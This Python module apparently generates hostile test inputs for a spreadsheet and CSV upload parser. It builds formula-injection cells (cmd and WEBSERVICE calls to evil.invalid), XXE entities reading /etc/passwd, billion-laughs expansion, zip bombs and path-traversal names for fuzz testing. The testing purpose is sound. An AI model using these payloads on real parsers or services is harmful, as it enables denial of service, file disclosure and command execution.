"""Hostile lists of names: text files and Excel workbooks that mean harm, and forms around them."""

import io
import random
import zipfile
import zlib

from .texts import MARKUP, SQL, TEMPLATES, UNICODE

MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
LINKS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006"
OFFICE = "application/vnd.openxmlformats-officedocument.spreadsheetml"
XML = '<?xml version="1.0" encoding="UTF-8"?>'
EVIL = "http://127.0.0.1:9/x"
FORMULAS = (
    "=1+1", "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1", "=HYPERLINK(\"//evil.invalid\")",
    "=WEBSERVICE(\"http://evil.invalid\")", "=IMPORTXML(\"http://evil.invalid\",\"//a\")", "'=1", "＝1+1",
)  # fmt: skip


# === WORKBOOKS === #


def members(rows="", *, shared="", sheets=1):
    """Return the members of a small workbook whose sheets hold the given XML."""
    names = [f"sheet{number}.xml" for number in range(1, sheets + 1)]
    listed = "".join(
        f'<sheet name="S{n}" sheetId="{n}" r:id="r{n}"/>' for n, _name in enumerate(names, 1)
    )
    links = "".join(
        f'<Relationship Id="r{n}" Type="{LINKS}/worksheet" Target="worksheets/{name}"/>'
        for n, name in enumerate(names, 1)
    )
    types = "".join(
        f'<Override PartName="/xl/worksheets/{name}" ContentType="{OFFICE}.worksheet+xml"/>'
        for name in names
    )
    sheet = f'{XML}<worksheet xmlns="{MAIN}"><sheetData>{rows}</sheetData></worksheet>'
    made = {
        "[Content_Types].xml": f'{XML}<Types xmlns="{PACKAGE}/content-types">'
        '<Default Extension="rels" '
        'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        f'<Override PartName="/xl/workbook.xml" ContentType="{OFFICE}.sheet.main+xml"/>'
        f'<Override PartName="/xl/sharedStrings.xml" ContentType="{OFFICE}.sharedStrings+xml"/>'
        f"{types}</Types>",
        "_rels/.rels": f'{XML}<Relationships xmlns="{PACKAGE}/relationships">'
        f'<Relationship Id="r" Type="{LINKS}/officeDocument" Target="xl/workbook.xml"/>'
        "</Relationships>",
        "xl/workbook.xml": f'{XML}<workbook xmlns="{MAIN}" xmlns:r="{LINKS}">'
        f"<sheets>{listed}</sheets></workbook>",
        "xl/_rels/workbook.xml.rels": f'{XML}<Relationships xmlns="{PACKAGE}/relationships">'
        f'{links}<Relationship Id="s" Type="{LINKS}/sharedStrings" Target="sharedStrings.xml"/>'
        "</Relationships>",
        "xl/sharedStrings.xml": f'{XML}<sst xmlns="{MAIN}">{shared}</sst>',
    }
    made.update({f"xl/worksheets/{name}": sheet for name in names})
    return made


def packed(made, method=zipfile.ZIP_DEFLATED):
    """Return members as the bytes of an archive."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as archive:
        for name, content in made.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def row(*cells, number=1):
    """Return a row of cells given as XML."""
    return f'<row r="{number}">{"".join(cells)}</row>'


def inline(text, place="A1"):
    """Return a cell with a text of its own."""
    return f'<c r="{place}" t="inlineStr"><is><t>{text}</t></is></c>'


NAMED = row(inline("Name"), inline("Menge", "B1")) + row(inline("Anna", "A2"), number=2)


def odd_cells():
    """Yield (name, rows) of cells that a reader may take too seriously."""
    for number, value in enumerate(("NaN", "1e999", "-1", "9" * 400, "1e308", "x", "")):
        for kind in ("n", "s", "b", "e", "d", "str"):
            cell = f'<c r="A1" t="{kind}"><v>{value}</v></c>'
            yield f"value {kind} {number}", row(cell)
    for place in ("XFD1048576", "ZZZZZZZ1", "A99999999999", "A0", "1A", "", "$A$1", "a1", "A-1"):
        yield f"place {place}", row(inline("x", place))
    yield "far row", row(inline("x"), number=10**18) + row(inline("y"), number=-5)
    yield "million columns", row(*(["<c><v>1</v></c>"] * 1_000_000))
    yield "far column", row(*(inline("x", place) for place in ("A1", "XFD1", "ABCDEFG1")))
    yield "million rows", "<row/>" * 1_000_000
    yield "blank lines", "".join(row(inline("x"), number=n * 500) for n in range(1, 2_000))
    yield "long cell", row(inline("x" * 9_000_000))
    yield "formula", row('<c r="A1"><f>1+1</f><v>2</v></c>')
    yield "formula without a value", row('<c r="A1"><f>WEBSERVICE("//evil.invalid")</f></c>')
    yield "markup", row(*(inline(text.replace("&", "&amp;").replace("<", "&lt;"))
                          for text in MARKUP))  # fmt: skip
    yield "cdata", row(inline("<![CDATA[<script>window.giftPwned=1</script>]]>"))
    yield "references", row(inline("&#0;&#xFFFF;&#x110000;"))
    yield "no cells", "<row/><row></row>"
    yield "strange", "<x/><row><x/></row><!-- --><?pi?>"


def bombs():
    """Yield (name, bytes) of archives that are far larger than they look."""
    zeros = " " * 60_000_000
    yield "blank.xlsx", packed(members(zeros))
    yield "shared.xlsx", packed(members(NAMED, shared=f"<si><t>{'x' * 40_000_000}</t></si>"))
    yield "many strings.xlsx", packed(members(NAMED, shared="<si><t/></si>" * 1_500_000))
    yield "many sheets.xlsx", packed(members(NAMED, sheets=2_000))
    yield "some sheets.xlsx", packed(members("<row/>" * 9_000, sheets=200))
    yield "deep.xlsx", packed(members("<row>" * 100_000))
    yield (
        "attributes.xlsx",
        packed(members("<row " + " ".join(f'a{n}=""' for n in range(90_000)) + "/>")),
    )
    inner = packed({"xl/workbook.xml": zeros})
    yield "nested.xlsx", packed({"xl/workbook.xml": inner, "a.zip": inner})
    yield "told too small.xlsx", told_small(packed(members(zeros)))
    yield "overlapping.xlsx", overlapping()


def told_small(data):
    """Return an archive whose directory says that all of its members are small."""
    changed = bytearray(data)
    at = changed.find(b"PK\1\2")
    while at >= 0:
        changed[at + 24 : at + 28] = (900).to_bytes(4, "little")
        at = changed.find(b"PK\1\2", at + 4)
    return bytes(changed)


def overlapping():
    """Return an archive with 290 members that are all the same bytes."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/a.xml", "<a>" + " " * 15_000_000 + "</a>")
        first = archive.infolist()[0]
        for number in range(290):
            copied = zipfile.ZipInfo(f"xl/{number}.xml")
            for name in ("header_offset", "file_size", "compress_size", "CRC", "compress_type"):
                setattr(copied, name, getattr(first, name))
            archive.filelist.append(copied)
            archive.NameToInfo[copied.filename] = copied
    return buffer.getvalue()


def entities():
    """Yield (name, bytes) of workbooks whose XML asks for more than it holds."""
    levels = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    types = {
        "file": '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>',
        "http": f'<!DOCTYPE x [<!ENTITY a SYSTEM "{EVIL}">]>',
        "laughs": f'<!DOCTYPE x [<!ENTITY a0 "lol">{levels}<!ENTITY a "&a9;">]>',
        "blowup": f'<!DOCTYPE x [<!ENTITY a "{"x" * 90_000}">]>',
        "parameter": f'<!DOCTYPE x [<!ENTITY % p SYSTEM "{EVIL}"> %p; <!ENTITY a "x">]>',
        "outside": f'<!DOCTYPE x SYSTEM "{EVIL}.dtd">',
    }
    for member in ("xl/worksheets/sheet1.xml", "xl/sharedStrings.xml", "xl/workbook.xml"):
        for name, kind in types.items():
            made = members(row(inline("&a;" * 900)), shared="<si><t>&a;</t></si>")
            made[member] = made[member].replace(XML, XML + kind)
            yield f"{name} {member}", packed(made)
    for encoding in ("utf-16", "utf-32", "utf-7", "cp037"):
        made = members(NAMED)
        text = made["xl/worksheets/sheet1.xml"].replace(XML, types["file"])
        yield f"entity in {encoding}", packed({**made, "xl/worksheets/sheet1.xml": text.encode(
            encoding)})  # fmt: skip


def odd_archives(rng):
    """Yield (name, bytes) of workbooks with parts missing, leading elsewhere, or damaged."""
    made = members(NAMED)
    for name in made:
        yield f"without {name}", packed({other: made[other] for other in made if other != name})
        yield f"empty {name}", packed({**made, name: ""})
        yield f"binary {name}", packed({**made, name: rng.randbytes(900)})
    for target in ("../../../../etc/passwd", EVIL, "/etc/passwd", "", "worksheets/", "\\\\x\\y"):
        links = made["xl/_rels/workbook.xml.rels"].replace("worksheets/sheet1.xml", target)
        yield f"leads to {target}", packed({**made, "xl/_rels/workbook.xml.rels": links})
        outside = links.replace('Id="r1"', 'Id="r1" TargetMode="External"')
        yield f"leads outside {target}", packed({**made, "xl/_rels/workbook.xml.rels": outside})
    for name in (
        "../../evil.xml",
        "/etc/cron.d/x",
        "C:\\x.xml",
        "a\0b.xml",
        "\u202elmx.x",
        "x" * 60_000,
    ):
        yield f"named {name[:20]!r}", packed({**made, name: "<x/>"})
    whole = packed(made)
    yield "old", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(5_000)
    yield "bzip2", packed(made, zipfile.ZIP_BZIP2)
    yield "lzma", packed(made, zipfile.ZIP_LZMA)
    yield "stored", packed(made, zipfile.ZIP_STORED)
    yield "before", b"x" * 9_000 + whole
    yield "behind", whole + b"x" * 9_000
    yield "encrypted", whole.replace(b"PK\1\2\x14\3\x14\0\0\0", b"PK\1\2\x14\3\x14\0\1\0")
    yield "directory only", whole[whole.find(b"PK\1\2") :]
    yield "no end", b"PK\5\6" + bytes(18)
    for number in range(14):
        yield f"cut {number}", whole[: rng.randrange(4, len(whole))]
        flipped = bytearray(whole)
        for _n in range(9):
            flipped[rng.randrange(len(flipped))] ^= 1 << rng.randrange(8)
        yield f"flipped {number}", bytes(flipped)


# === TEXT FILES === #


def text_files(rng):
    """Yield (name, bytes) of text files that are no decent lists."""
    yield "million columns", b"," * 1_000_000
    yield "million cells", b"x;" * 700_000
    yield "million rows", b"\n" * 1_000_000
    yield "many rows", b"Anna\n" * 300_000
    yield "one line", b"x" * 1_900_000
    yield "too large", b"Anna\n" * 600_000
    yield "open quote", b'"' + b"Anna\n" * 90_000
    yield "quotes", b'"' * 900_001
    yield "quotes and commas", b'",' * 400_000
    yield "delimiters", b",;\t|" * 200_000
    yield "returns", b"Anna\r" * 500
    yield "zeros", bytes(4_000)
    yield "zeros between", b"A\0n\0n\0a\0"
    yield "a zero", b"Anna\0Ben\nCara"
    yield "end of file", b"Anna\x1aBen"
    yield "separator", b"sep=\nAnna"
    yield "odd separator", b"sep=\xff\nAnna"
    for name in ("utf-16", "utf-32", "utf-7", "cp037", "cp932", "gb18030", "utf-16-be"):
        yield name, "Name;Größe\nJosé;渡辺\n".encode(name, "replace")
    yield "half a mark", b"\xff"
    yield "a mark only", b"\xff\xfe"
    yield "odd utf-16", b"\xff\xfeA\0n"
    yield "surrogate", b"\xff\xfe\0\xd8A\0"
    yield "overlong", b"\xc0\xaf\xe0\x80\xaf\xf8\x80\x80\x80\xaf"
    yield "accents", ("e" + "\u0301" * 400 + "\n").encode() * 40
    for number in range(8):
        yield f"random {number}", rng.randbytes(rng.choice((9, 400, 90_000)))
    for group in (FORMULAS, MARKUP, SQL, TEMPLATES, UNICODE):
        cells = [text.replace('"', '""') for text in group]
        yield f"cells {group[0][:9]}", "\n".join(f'"{cell}";1' for cell in cells).encode()
    yield "quantities", "\n".join(
        f"Anna;{text}" for text in ("-1", "1e9", "NaN", "inf", "9" * 400, "١٢", "½", "²", "0x1", "1,5")
    ).encode()  # fmt: skip
    yield "zipped", zlib.compress(bytes(10_000_000))


NAMES = (
    "a.csv", "a.xlsx", "../../a.csv", "a\0.csv", "", "x" * 9_000, "<script>.csv", "a.xls", "\u202evsc.a",
)  # fmt: skip
ENCODINGS = (
    "utf-8", "idna", "rot13", "zlib", "unicode_escape", "punycode", "\0", "x" * 5_000, "utf-16-le",
)  # fmt: skip


def hostile_lists(seed):
    """Yield (name, file name, bytes, encoding) of lists of names."""
    rng = random.Random(seed)
    books = [(f"cells {name}", packed(members(rows))) for name, rows in odd_cells()]
    groups = {"bomb": bombs(), "entity": entities(), "archive": odd_archives(rng)}
    for group, made in groups.items():
        books += [(f"{group} {name}", data) for name, data in made]
    for name, data in books:
        yield name, "a.xlsx", data, ""
    for name, data in text_files(rng):
        yield f"text {name}", "a.csv", data, ""
    small, book = "Name;Menge\nAnna;2\n".encode("cp1252"), packed(members(NAMED))
    for number, name in enumerate(NAMES):
        yield f"named {name[:20]!r}", name, (small, book)[number % 2], ""
    for encoding in ENCODINGS:
        yield f"read as {encoding[:20]!r}", "a.csv", small, encoding
